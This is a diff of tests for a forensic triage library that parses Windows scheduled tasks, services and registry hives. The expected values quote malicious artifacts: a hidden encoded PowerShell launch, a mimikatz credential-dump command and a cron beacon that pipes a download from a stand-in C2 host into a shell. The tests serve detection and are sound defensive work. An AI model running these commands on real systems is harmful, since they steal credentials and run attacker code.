@@ -180,9 +180,16 @@ def test_tasks_typed_with_provenance(corpus):
     assert tasks["\\Hidden\\Tarrask"].flags == ["registry_only", "no_security_descriptor", "enabled_not_decoded"]
     every = tasks["\\Actions\\Everything"]
     assert every.hidden and not every.enabled
-    assert [a["type"] for a in every.actions] == ["exec", "exec", "com_handler", "send_email", "show_message"]
+    assert [a.type for a in every.actions] == ["exec", "exec", "com_handler", "send_email", "show_message"]
+    assert every.actions[3].fields["Server"] == "smtp.example.invalid"
+    assert isinstance(every.principal, foothold.Principal) and every.principal.logon_type == "S4U"
     assert every.command_line == "powershell.exe -nop -w hidden -enc SQBFAFgA"
-    assert every.principal["required_privileges"] == ["SeDebugPrivilege", "SeImpersonatePrivilege"]
+    assert every.principal.required_privileges == ["SeDebugPrivilege", "SeImpersonatePrivilege"]
+    all_kinds = tasks["\\Triggers\\AllKinds"]
+    assert all_kinds.triggers[0] == foothold.TaskTrigger(
+        type="time", id="t1", start_boundary="2026-11-01T03:00:00", end_boundary="2027-11-01T03:00:00",
+        interval="PT15M", duration="P1D", stop_at_duration_end=True, random_delay="PT30S", execution_time_limit="PT1H")
+    assert report_tasks_alias(ev)
     at1 = tasks["\\At1"]
     assert at1.sources == ["xml", "job", "taskcache"] and at1.job_source.path == "/Windows/Tasks/At1.job"
     assert at1.source.filesystem == "ntfs" and at1.source.entry > 0
@@ -196,7 +203,7 @@ def test_tasks_typed_with_provenance(corpus):
 def test_parse_loose_task_files(real_corpus):
     t = foothold.parse_task_xml((real_corpus / "tasks" / "museum_Tasks__Win10__APTSimulatorVM__GameOver").read_bytes())
     assert t.command_line == "C:\\TMP\\mim.exe sekurlsa::LogonPasswords > C:\\TMP\\o.txt"
-    assert t.triggers[0]["interval"] == "PT5M"
+    assert t.triggers[0].interval == "PT5M"
     j = foothold.parse_job((real_corpus / "tasks" / "plaso__wintask.job").read_bytes())
     assert j.job["status_name"] == "ready" and j.author == "Brian"
     with pytest.raises(foothold.CorruptEvidence):
@@ -214,3 +221,40 @@ def test_services_typed(corpus):
     assert evil.source.key == "ControlSet002\\Services\\EvilSvc"
     assert not services[("ControlSet001", "EvilSvc")].current
     assert services[("ControlSet002", "UpdSvc")].service_dll == "%SystemRoot%\\System32\\updsvc.dll"
+
+
+def report_tasks_alias(ev):
+    r = ev.scan(only=["tasks"])
+    return r.tasks is r.scheduled_tasks and len(r.tasks) == 214
+
+
+def test_open_hive_replays_logs(real_corpus):
+    h = real_corpus / "hives"
+    hive = foothold.open_hive(
+        (h / "yarp__NewDirtyHive1__NewDirtyHive").read_bytes(),
+        logs=[(h / "yarp__NewDirtyHive1__NewDirtyHive.LOG2").read_bytes(), (h / "yarp__NewDirtyHive1__NewDirtyHive.LOG1").read_bytes()],
+    )
+    assert hive.dirty and hive.replay["logs_applied"] == ["log2", "log1"] and hive.replay["last_sequence"] == 5
+    assert hive.services == [] and hive.task_cache == []
+    with pytest.raises(foothold.CorruptEvidence):
+        foothold.open_hive(b"garbage")
+
+
+def test_triage_notebook_runs(tmp_path):
+    nbformat = pytest.importorskip("nbformat")
+    nbclient = pytest.importorskip("nbclient")
+    demo = tmp_path / "demo.img"
+    subprocess.run(["zstd", "-q", "-d", str(ROOT / "corpus" / "demo" / "demo.img.zst"), "-o", str(demo)], check=True)
+    nb = nbformat.read(ROOT / "bindings" / "python" / "examples" / "triage.ipynb", as_version=4)
+    import os
+
+    os.environ["FOOTHOLD_DEMO"] = str(demo)
+    try:
+        nbclient.NotebookClient(nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(ROOT)}}).execute()
+    finally:
+        del os.environ["FOOTHOLD_DEMO"]
+    outputs = "".join(
+        o.get("data", {}).get("text/plain", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
+    )
+    assert "OneDrive Updater {5A1B}" in outputs, "the demo's hidden task is listed"
+    assert "curl -fsS http://c2.example.invalid/b | sh" in outputs, "the cron beacon is flagged"
